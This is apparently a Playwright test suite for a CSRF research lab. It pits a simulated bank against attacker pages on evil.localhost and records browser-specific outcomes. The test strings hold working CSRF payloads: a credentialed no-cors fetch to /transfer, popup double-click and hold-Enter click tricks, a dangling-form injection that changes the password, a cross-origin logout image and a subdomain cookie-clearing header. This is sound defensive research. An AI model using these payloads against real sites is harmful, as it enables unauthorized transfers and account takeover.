"""Reports from elsewhere that the catalogue has no attack for: what the browsers and the bank do.

Each is about a sentence that the pages say, and about an attacker's page that no defense foresaw.
"""

from __future__ import annotations

from urllib.parse import urlencode

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from csrf_proof import trial
from csrf_proof.serving import serve
from e2e.bank import Lab, Site, sign_in_by_hand
from e2e.hostile import REDIRECT, HostilePage

pytestmark = pytest.mark.each_browser

FIREFOX = "firefox"
PAYMENT = "/pay?to=mallory&amount=70"


def balance(lab: Lab) -> int:
    alice = lab.state()["accounts"]["alice"]
    return int(alice["balance"])


def attackers_page(context: BrowserContext, port: int, host: str = "evil.localhost") -> Page:
    page = context.new_page()
    page.goto(f"http://{host}:{port}/")
    return page


def test_a_short_link_from_outside_the_browser_brings_a_strict_cookie_in_chromium_alone(
    context: BrowserContext, site: Site, profile: str
) -> None:
    lab = Lab(site, "samesite-strict")
    sign_in_by_hand(context, lab)
    HostilePage.location = f"{lab.url}/transfer?to=mallory&amount=70"
    with serve(HostilePage) as port:
        context.new_page().goto(f"http://evil.localhost:{port}{REDIRECT}")
        attempt, _ = lab.wait_for("transfer", 0)

    if profile == FIREFOX:
        assert (attempt["reason"], balance(lab)) == ("cookie-unknown", 1000)
    else:
        assert (attempt["reason"], balance(lab)) == (None, 930)
        assert attempt["sec_fetch_site"] == "none"


def test_a_double_click_that_begins_in_a_pop_up_needs_no_frame(
    context: BrowserContext, site: Site
) -> None:
    lab = Lab(site, "django-default")
    sign_in_by_hand(context, lab)
    HostilePage.page = f"""<!doctype html><body style="margin: 0; height: 100vh">
<button id="go" onclick="open('/?popup', 'w', 'width=700,height=600');
  location = '{lab.url}{PAYMENT}'">Start</button>
<script>
  if (location.search) {{
    document.body.textContent = "Double-click here.";
    onmousedown = () => close();
  }}
</script>"""
    with serve(HostilePage) as port:
        page = attackers_page(context, port)
        with context.expect_page() as opened:
            page.click("#go")
        pop_up = opened.value
        pop_up.get_by_text("Double-click here.").wait_for()
        send = page.locator("#send")
        send.wait_for()
        box = send.bounding_box()
        assert box
        where = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
        trial.press_until_closed(pop_up, *where)
        page.mouse.click(*where)
        lab.wait_for("transfer", 0)

    assert balance(lab) == 930


def test_who_holds_enter_presses_a_button_of_the_bank(context: BrowserContext, site: Site) -> None:
    lab = Lab(site, "django-default--origin-check")
    sign_in_by_hand(context, lab)
    HostilePage.page = f"""<!doctype html><body>Hold Enter to play.<script>
addEventListener("keydown", () => {{ location = "{lab.url}{PAYMENT}#send"; }});</script>"""
    with serve(HostilePage) as port:
        page = attackers_page(context, port)
        page.keyboard.down("Enter")
        expect(page.locator("#send")).to_be_focused()
        page.keyboard.down("Enter")
        page.keyboard.up("Enter")
        lab.wait_for("transfer", 0)

    assert balance(lab) == 930


@pytest.mark.parametrize(
    ("label", "clicked"),
    [("no-defense", False), ("no-defense", True), ("samesite-lax", True)],
)
def test_a_click_in_a_pop_up_opens_firefoxs_jar_to_the_page_that_opened_it(
    context: BrowserContext, site: Site, profile: str, label: str, *, clicked: bool
) -> None:
    """Reported by Mozilla, of its own protection: "State Partitioning", on MDN."""
    lab = Lab(site, label)
    sign_in_by_hand(context, lab)
    HostilePage.page = f"""<!doctype html>
<button id="see" onclick="open('{lab.url}/', 'w', 'width=700,height=600')">See your bank</button>
<button id="pay">Pay</button>
<script>
  pay.onclick = () => fetch("{lab.url}/transfer", {{
    method: "POST", mode: "no-cors", credentials: "include",
    body: new URLSearchParams({{to: "mallory", amount: 70}}),
  }});
</script>"""
    with serve(HostilePage) as port:
        page = attackers_page(context, port)
        with context.expect_page() as opened:
            page.click("#see")
        if clicked:
            opened.value.click("h1.greeting")
        page.click("#pay")
        attempt, _ = lab.wait_for("transfer", 0)

    if label == "samesite-lax":
        assert attempt["reason"] == "cookie-lax"
    elif profile == "chromium" or (profile == FIREFOX and clicked):
        assert (attempt["reason"], balance(lab)) == (None, 930)
    else:
        assert (attempt["reason"], balance(lab)) == ("cookie-third-party", 1000)


def test_a_form_that_is_never_closed_takes_the_banks_own_token_along(
    context: BrowserContext, site: Site
) -> None:
    lab = Lab(site, "csrf-token--content-policy--with-markup-injection")
    sign_in_by_hand(context, lab)
    note = (
        '<form action="/password" method="post"><input type="hidden" name="new_password" '
        'value="owned">'
    )
    address = f"{lab.url}/pay?{urlencode({'to': 'mallory', 'amount': 1, 'note': note})}"
    HostilePage.page = f'<!doctype html><a id="bait" href="{address.replace("&", "&amp;")}">Invoice'
    with serve(HostilePage) as port:
        page = attackers_page(context, port)
        page.click("#bait")
        page.click("#send")
        _, state = lab.wait_for("change-password", 0)

    assert state["accounts"]["alice"]["password_changed"]


def test_an_image_in_cors_mode_names_its_origin_and_acts_all_the_same(
    context: BrowserContext, site: Site, profile: str
) -> None:
    lab = Lab(site, "origin-check")
    sign_in_by_hand(context, lab)
    HostilePage.page = (
        f'<!doctype html><img crossorigin="use-credentials" src="{lab.url}/logout" alt="">'
    )
    with serve(HostilePage) as port:
        attackers_page(context, port)
        attempt, state = lab.wait_for("logout", 0)

    assert attempt["origin"] == f"http://evil.localhost:{port}"
    if profile == "chromium":
        assert attempt["reason"] is None
        assert state["accounts"]["alice"]["sessions"] == 0


def test_a_subdomain_clears_the_cookies_of_every_lab_in_chromium_and_of_none_in_firefox(
    context: BrowserContext, site: Site, profile: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    labs = Lab(site, "everything"), Lab(site, "no-defense")
    for lab in labs:
        sign_in_by_hand(context, lab)
    HostilePage.page = "Bye."
    monkeypatch.setattr(HostilePage, "headers_too", {"Clear-Site-Data": '"cookies"'})
    with serve(HostilePage) as port:
        attackers_page(context, port, f"community.{labs[0].host}").get_by_text("Bye.").wait_for()

    left = [bool(context.cookies(lab.url)) for lab in labs]
    assert left == [profile == FIREFOX] * 2
    assert [lab.state()["attempts"][-1]["action"] for lab in labs] == ["login", "login"]
